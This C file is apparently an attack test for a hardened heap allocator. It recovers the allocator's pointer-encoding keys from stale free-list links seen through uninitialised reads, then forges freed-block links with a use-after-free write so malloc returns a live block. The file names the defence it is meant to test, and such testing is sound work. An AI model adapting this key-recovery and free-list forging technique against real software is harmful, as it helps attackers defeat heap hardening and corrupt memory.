/* keyrec_stale: stale encoded links left in a page slot that changes size
 * class leak the old page's keys through uninitialised reads of new blocks;
 * the PRNG is inverted and the new page's keys predicted.
 *
 * Bug modelled: the program reads (e.g. sends out) uninitialised bytes of
 * blocks it just allocated, then has one use-after-free write. No read of
 * freed memory at all.
 *
 * Steps:
 *  1. Fill one 64 KiB page with 112-byte blocks and free them all in address
 *     order: block i's first word is encode(block i-1) (LIFO local_free).
 *  2. A few dozen generic-path calls (large malloc/free) let the retired page
 *     go back to its segment; its memory is kept, not cleared.
 *  3. malloc(256) x 16 reuses the slot for another class (the first batch
 *     of a fresh page, in shuffled order). Reading their interiors gives the
 *     old encoded links at old block addresses that are not new block starts.
 *  4. Two (address, next, value) triples give the old key0 and rotation;
 *     unmix(key0) is the heap PRNG state; matching the new page's observed
 *     block order against the predicted stream gives the new page's keys.
 *  5. free(F), *F = encode'(F -> L), *L = encode'(L -> NULL), L live.
 * WIN: malloc(256) returns the live block L.
 * Defence that should stop it: clear (or re-key) a slot's memory when its
 * class changes or when blocks are handed out; keys that do not reveal the
 * PRNG state (see keyrec_predict). */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */

#define OLD 112
#define NEW 256
#define NBATCH (4096 / NEW)
#define PER_PAGE (65536 / OLD)

static const uint64_t GAMMA = 0x9e3779b97f4a7c15ull, C1 = 0xbf58476d1ce4e5b9ull, C2 = 0x94d049bb133111ebull;
static uint64_t mix(uint64_t z) {
  z = (z ^ (z >> 30)) * C1;
  z = (z ^ (z >> 27)) * C2;
  return z ^ (z >> 31);
}
static uint64_t unxorshift(uint64_t y, int s) {
  uint64_t x = y;
  for (int i = 0; i < 64 / s + 1; i++) x = y ^ (x >> s);
  return x;
}
static uint64_t inverse(uint64_t c) {
  uint64_t x = c;
  for (int i = 0; i < 6; i++) x *= 2 - c * x;
  return x;
}
static uint64_t unmix(uint64_t z) {
  z = unxorshift(z, 31) * inverse(C2);
  z = unxorshift(z, 27) * inverse(C1);
  return unxorshift(z, 30);
}
static uintptr_t rotl(uintptr_t x, unsigned r) { r &= 63; return r == 0 ? x : (x << r) | (x >> (64 - r)); }
static uintptr_t rotr(uintptr_t x, unsigned r) { r &= 63; return r == 0 ? x : (x >> r) | (x << (64 - r)); }
static int cmp(const void* a, const void* b) {
  uintptr_t x = *(const uintptr_t*)a, y = *(const uintptr_t*)b;
  return x < y ? -1 : x > y;
}

int main(void) {
  start(10);
  static uintptr_t blk[1400], page[PER_PAGE];
  for (int i = 0; i < 1400; i++) blk[i] = (uintptr_t)hide(malloc(OLD));
  /* a page (not page 0 of its segment) that holds PER_PAGE of our blocks */
  int pn = 0;
  uintptr_t start = 0;
  for (int i = 0; i < 1400 && pn != PER_PAGE; i++) {
    start = blk[i] & ~(uintptr_t)0xffff;
    if ((start & (SEG - 1)) == 0) continue;
    pn = 0;
    for (int j = 0; j < 1400; j++)
      if ((blk[j] & ~(uintptr_t)0xffff) == start && pn < PER_PAGE) page[pn++] = blk[j];
  }
  if (pn != PER_PAGE) lost("no page filled with %d blocks of %d bytes", PER_PAGE, OLD);
  qsort(page, PER_PAGE, sizeof page[0], cmp);
  if (page[0] != start) lost("the page does not start with one of our blocks");
  for (int i = 0; i < PER_PAGE; i++) free(hide((void*)page[i])); /* page[i] -> page[i-1] */
  for (int i = 0; i < 40; i++) free(hide(malloc(100000)));      /* generic-path calls */

  uintptr_t nb[NBATCH];
  int order[NBATCH];
  for (int i = 0; i < NBATCH; i++) {
    nb[i] = (uintptr_t)hide(malloc(NEW));
    if ((nb[i] & ~(uintptr_t)0xffff) != start) lost("malloc(%d) = %p is not in the old slot %p", NEW, (void*)nb[i], (void*)start);
    order[i] = (int)((nb[i] - start) / NEW);
  }
  /* two old blocks inside the new blocks' memory, not at a new block start */
  uintptr_t o[2], e[2], nx[2];
  int no = 0;
  for (int i = 1; i < PER_PAGE && no < 2; i++) {
    uintptr_t a = page[i];
    if (a + 8 > start + 4096) break;
    if ((a - start) % NEW == 0) continue;
    o[no] = a;
    nx[no] = page[i - 1];
    e[no] = peek((void*)a); /* inside a live new block: an uninitialised read */
    no++;
  }
  if (no < 2) lost("no two stale links in the new blocks");
  int plain = (e[0] == nx[0] && e[1] == nx[1]);
  uint64_t state = 0, k0n = 0;
  unsigned rn = 0;
  if (!plain) {
    int solutions = 0;
    for (unsigned rr = 1; rr < 64; rr += 2) {
      uintptr_t c = rotr(e[0], rr) ^ nx[0] ^ o[0];
      if ((rotr(e[1], rr) ^ nx[1] ^ o[1]) != c) continue;
      uint64_t s = unmix(c);
      if (((mix(s + GAMMA) | 1) & 63) != rr) continue;
      if (solutions++ == 0) state = s;
    }
    if (solutions == 0) lost("the stale words are not links of the old page (memory cleared?)");
    long found = -1;
    for (long t = 1; t < 400000 && found < 0; t++) {
      int sim[NBATCH];
      for (int i = 0; i < NBATCH; i++) sim[i] = i;
      uint64_t u = state + (uint64_t)(t + 2) * GAMMA;
      for (int i = NBATCH - 1; i > 0; i--, u += GAMMA) {
        int j = (int)(mix(u) % (uint64_t)(i + 1));
        int tmp = sim[i]; sim[i] = sim[j]; sim[j] = tmp;
      }
      if (memcmp(sim, order, sizeof sim) == 0) found = t;
    }
    if (found < 0) lost("the new page's order matches no position of the predicted stream");
    k0n = mix(state + (uint64_t)found * GAMMA);
    rn = (unsigned)((mix(state + (uint64_t)(found + 1) * GAMMA) | 1) & 63);
    note("old page state %#llx; new page keys %ld outputs later: key0=%#llx rotation=%u",
         (unsigned long long)state, found, (unsigned long long)k0n, rn);
  } else {
    note("default build: the stale words are plain pointers");
  }
  uintptr_t F = nb[3], L = nb[4];
  free(hide((void*)F));
  poke((void*)F, plain ? L : rotl(L ^ k0n ^ F, rn));
  poke((void*)L, plain ? 0 : rotl(0 ^ k0n ^ L, rn));
  for (int k = 0; k < 4096; k++) {
    uintptr_t q = (uintptr_t)hide(malloc(NEW));
    if (q == L) win("malloc(%d) returned %p, a block that is still allocated", NEW, (void*)q);
  }
  lost("the live block never came back");
}
